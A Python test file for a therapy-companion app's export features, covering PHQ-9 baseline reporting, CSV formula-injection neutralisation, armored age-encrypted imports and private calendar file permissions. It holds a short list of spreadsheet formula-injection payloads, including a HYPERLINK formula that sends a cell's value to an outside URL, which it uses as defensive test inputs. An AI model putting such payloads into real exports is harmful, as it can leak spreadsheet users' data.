"""What a provider's tools found, repeated: the baseline of a date-limited report, formula
injection in the CSV, ASCII-armored age files, the calendar file's mode and its CLI."""

from __future__ import annotations

import base64
import csv
import io
import json
import shutil
import stat
import subprocess
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from pyrage import passphrase as age_passphrase
from pyrage import x25519

from companion.domain.export_selection import Selection
from companion.export import age, csvzip
from companion.export.report_html import BASELINE_RULE
from companion.export.tables import KINDS
from companion.services.container import Services
from companion.services.export import ExportFormat
from companion.services.journal_model import EntryInput
from tests.support.cli import cli
from tests.support.export import export_bytes
from tests.support.flow import record_session_at
from tests.support.pdftext import pdftotext, squash
from tests.support.services import make_profile
from tests.support.vault import PASSPHRASE

ENV = {"COMPANION_PASSPHRASE": PASSPHRASE}


# --- 2. the baseline is the whole series', not the period's ---------------------------------


def _phq9(total: int) -> list[int]:
    answers = [0] * 9
    for i in range(total):
        answers[i % 8] += 1  # item 9 stays 0
    assert sum(answers) == total
    return answers


@pytest.fixture
def treated(unlocked_services: Services) -> Services:
    """PHQ-9 20 before the first session (5 Oct), 12 on 3 Nov, 7 on 28 Nov."""
    services = unlocked_services
    services.profile.save(make_profile())
    start = datetime(2025, 10, 5, 17, 0, tzinfo=UTC)
    record_session_at(services.vault, services.protocols, start)
    for total, day in ((20, datetime(2025, 10, 4, 9, 0)), (12, datetime(2025, 11, 3, 9, 0))):
        services.assessments.record("phq9", _phq9(total), taken_at=day.replace(tzinfo=UTC))
    services.assessments.record("phq9", _phq9(7), taken_at=datetime(2025, 11, 28, 9, 0, tzinfo=UTC))
    return services


def test_a_date_limited_report_uses_the_whole_series_baseline(
    treated: Services, tmp_path: Path
) -> None:
    period = Selection(start=date(2025, 11, 2), end=date(2025, 11, 29), zone=UTC)
    limited = treated.export.preview(period).report.phq9
    whole = treated.export.preview(Selection()).report.phq9
    assert [p.total for p in limited.points] == [12, 7]  # the period's scores only
    assert limited.baseline is not None and whole.baseline is not None
    assert limited.baseline.total == whole.baseline.total == 20
    assert limited.baseline_before_period and not whole.baseline_before_period
    assert limited.change is not None and whole.change is not None
    assert limited.change.response and whole.change.response  # 20 -> 7 is 65 % lower
    assert limited.baseline.answers == tuple(_phq9(20))
    text = squash(
        pdftotext(export_bytes(treated, tmp_path, selection=period, fmt=ExportFormat.PDF), tmp_path)
    )
    assert squash("baseline 20") in text and squash("(before this period)") in text
    assert squash("65 % lower: response") in text
    assert squash(BASELINE_RULE) in text  # the page says how the baseline is chosen


# --- 3. CSV formula injection ----------------------------------------------------------------

HOSTILE_CELLS = (
    '=HYPERLINK("https://example.org/?q="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCarriage return first",
)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    unlocked_services: Services, tmp_path: Path
) -> None:
    for n, text in enumerate(HOSTILE_CELLS):
        unlocked_services.journal.create(
            EntryInput(kind="free", title=text, body=text, shared_with_provider=True),
            created_at=datetime(2026, 1, 1, 9, n, tzinfo=UTC),
        )
    data = export_bytes(unlocked_services, tmp_path, ExportFormat.CSV)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rows = list(
            csv.DictReader(io.StringIO(archive.read("journal_entry.csv").decode("utf-8-sig")))
        )
    for row in rows:
        for name in ("title", "body"):
            cell = row[name]
            assert not cell.startswith(csvzip.FORMULA_START), (name, cell)
            if cell.startswith("'"):
                assert cell[1:].startswith(csvzip.FORMULA_START)
    assert sum(row["title"].startswith("'") for row in rows) >= 4  # = + - @ reach the CSV
    assert len(rows) == len(HOSTILE_CELLS)
    # Tab and CR first (the journal trims them from titles, the CSV guards them anyway).
    record: dict[str, object] = {
        f.name: None for f in next(k for k in KINDS if k.name == "tag").fields
    }
    for text in ("\tTab first", "\rCR first"):
        record.update(id="t1", name=text)
        written = next(csv.DictReader(io.StringIO(csvzip.kind_csv("tag", [record]))))
        assert written["name"] == "'" + text
    # Ordinary text and the app's own values are left alone.
    assert csvzip.neutralise("a normal note") == "a normal note"
    assert csvzip.neutralise("2026-01-01T09:00:00.000000Z") == "2026-01-01T09:00:00.000000Z"
    assert csvzip.neutralise("-") == "'-"


# --- 5. ASCII-armored age files ---------------------------------------------------------------


def _armor(binary: bytes) -> bytes:
    encoded = base64.b64encode(binary)
    lines = [encoded[i : i + 64] for i in range(0, len(encoded), 64)]
    return b"\n".join([age.ARMOR_BEGIN, *lines, age.ARMOR_END]) + b"\n"


def test_armored_age_files_are_accepted(filled: Services, second: Services, tmp_path: Path) -> None:
    plain = export_bytes(filled, tmp_path)
    armored = _armor(age_passphrase.encrypt(plain, "correct horse battery"))
    assert age.is_age(armored) and age.is_armored(armored)
    report = second.importer.import_bytes(armored, passphrase="correct horse battery")
    assert report.encrypted and report.total_added > 0
    identity = x25519.Identity.generate()
    to_key = _armor(age.encrypt_to_recipients(plain, [str(identity.to_public())]))
    with_crlf = to_key.replace(b"\n", b"\r\n")
    assert age.decrypt(with_crlf, identities=[identity]) == plain


@pytest.mark.skipif(shutil.which("age") is None, reason="the age CLI is not installed")
def test_a_file_made_by_age_dash_a_imports(
    filled: Services, second: Services, tmp_path: Path
) -> None:
    plain_file = tmp_path / "export.json"
    plain_file.write_bytes(export_bytes(filled, tmp_path))
    identity = x25519.Identity.generate()
    armored = tmp_path / "export.json.age"
    subprocess.run(
        ["age", "-a", "-r", str(identity.to_public()), "-o", str(armored), str(plain_file)],
        check=True,
        timeout=60,
    )
    assert armored.read_bytes().startswith(age.ARMOR_BEGIN)
    records, encrypted = second.importer.read_file(armored, identity_text=str(identity))
    assert encrypted and records["journal_entry"]


def test_damaged_armor_is_refused_plainly() -> None:
    good = _armor(b"age-encryption.org/v1\n-> X25519 abc\nxyz\n--- mac\n")
    for damaged in (
        good.replace(age.ARMOR_END, b"-----END SOMETHING-----"),
        good.replace(b"\n", b"\n!", 1),
        age.ARMOR_BEGIN + b"\n" + b"A" * 65 + b"\n" + age.ARMOR_END,
        _armor(b"not an age file at all"),
    ):
        with pytest.raises(age.DecryptionError):
            age.decrypt(damaged, passphrase="x")


# --- 7. the calendar file ---------------------------------------------------------------------


def test_plan_ics_from_the_cli_is_private_and_a_calendar(filled: Services, tmp_path: Path) -> None:
    filled.planning.plan_series(datetime(2026, 3, 16, 17, 0, tzinfo=UTC))
    filled.vault.lock()
    out = tmp_path / "sessions.ics"
    done = cli("--data-dir", str(filled.paths.root), "plan", "ics", "--out", str(out), env=ENV)
    assert done.returncode == 0, done.stderr
    assert "no dose" in done.stdout
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    text = out.read_bytes().decode("utf-8")
    assert text.startswith("BEGIN:VCALENDAR\r\n") and "BEGIN:VEVENT" in text
    missing = cli(
        "--data-dir",
        str(filled.paths.root),
        "plan",
        "ics",
        "--out",
        str(tmp_path / "no" / "x.ics"),
        env=ENV,
    )
    assert missing.returncode != 0 and len(missing.stderr.strip().splitlines()) == 1


def test_the_calendar_service_writes_mode_600(filled: Services, tmp_path: Path) -> None:
    filled.planning.plan_series(datetime(2026, 3, 16, 17, 0, tzinfo=UTC) + timedelta(days=1))
    target = tmp_path / "plan.ics"
    filled.planning.export_ics(target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert json.dumps(target.read_text())  # text, readable
